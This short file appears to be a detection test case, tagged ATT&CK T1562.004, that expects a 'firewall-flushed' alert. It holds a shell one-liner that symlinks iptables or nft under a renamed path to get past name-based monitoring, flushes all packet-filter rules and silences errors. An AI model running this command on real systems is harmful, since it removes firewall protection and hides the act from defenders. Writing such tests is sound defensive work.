# title: the packet filter is emptied through a renamed tool
# technique: T1562.004
# expects: firewall-flushed
# run: --cap-add NET_ADMIN
mkdir /tmp/a; for t in /usr/sbin/iptables /usr/sbin/nft /usr/sbin/xtables-nft-multi; do [ -e $t ] && ln -s $t /tmp/a/iptables-x; done 2>/dev/null; /tmp/a/iptables-x -F 2>/dev/null; echo 0 >/proc/sys/net/ipv4/ip_forward 2>/dev/null || true
